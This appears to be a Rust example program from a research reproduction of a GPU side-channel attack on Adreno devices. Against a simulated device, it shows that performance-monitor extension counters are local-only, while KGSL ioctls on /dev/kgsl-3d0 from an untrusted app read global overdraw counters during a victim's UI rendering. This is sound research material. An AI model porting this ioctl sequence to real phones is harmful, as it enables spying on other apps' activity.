//! Counter discovery and the local-vs-global divide (§3.3, Fig 9–10).
//!
//! Walks the exact path the paper describes: enumerate all performance
//! counters through `GL_AMD_performance_monitor`, select the overdraw
//! group, show that the extension only exposes *local* values, then go
//! through `/dev/kgsl-3d0` ioctls for the *global* ones.
//!
//! ```text
//! cargo run --release --example counter_discovery
//! ```

use adreno_sim::time::SimInstant;
use gpu_eaves::android_ui::{SimConfig, UiSimulation};
use gpu_eaves::kgsl::abi::*;
use gpu_eaves::kgsl::gles;
use gpu_eaves::kgsl::SelinuxDomain;

fn main() {
    // --- Step 1 (§3.3): enumerate counters via the GL extension. ---------
    println!("GetPerfMonitorGroupsAMD:");
    for group in gles::get_perf_monitor_groups() {
        let counters = gles::get_perf_monitor_counters(group);
        println!(
            "  group {:#04x} ({:<3}) — {} countables",
            group.kgsl_id(),
            gles::get_perf_monitor_group_string(group),
            counters.len()
        );
    }

    let selected = gles::discover_overdraw_counters();
    println!("\noverdraw-related counters selected (Table 1):");
    for id in &selected {
        println!(
            "  {:#04x}:{:>2}  {}",
            id.group.kgsl_id(),
            id.countable,
            gles::get_perf_monitor_counter_string(*id).unwrap()
        );
    }

    // --- Step 2: the GL monitor dead end. --------------------------------
    let mut sim = UiSimulation::new(SimConfig::default());
    let monitor = gles::PerfMonitor::begin(sim.device());
    sim.advance_to(SimInstant::from_millis(600)); // victim renders its UI…
    let local = monitor.end();
    println!(
        "\nGL_AMD_performance_monitor over 600ms of victim activity: {} (local-only!)",
        if local.is_zero() { "all zero" } else { "nonzero?!" }
    );

    // --- Step 3 (Fig 10): the device-file path sees everything. ----------
    let dev = sim.device();
    let fd = dev.open(31337, SelinuxDomain::UntrustedApp).expect("world-accessible");
    for id in &selected {
        let mut get = KgslPerfcounterGet {
            groupid: id.group.kgsl_id(),
            countable: id.countable,
            ..Default::default()
        };
        dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_GET, IoctlRequest::PerfcounterGet(&mut get))
            .expect("reservation");
    }
    let mut reads: Vec<KgslPerfcounterReadGroup> = selected
        .iter()
        .map(|id| KgslPerfcounterReadGroup::new(id.group.kgsl_id(), id.countable))
        .collect();
    dev.ioctl(fd, IOCTL_KGSL_PERFCOUNTER_READ, IoctlRequest::PerfcounterRead(&mut reads))
        .expect("blockread");
    println!("\nioctl(IOCTL_KGSL_PERFCOUNTER_READ) on the same span:");
    for (id, r) in selected.iter().zip(&reads) {
        println!("  {:<36} = {}", gles::get_perf_monitor_counter_string(*id).unwrap(), r.value);
    }
    println!("\n→ global values from an unprivileged fd: the §4 vulnerability in one screen.");
}
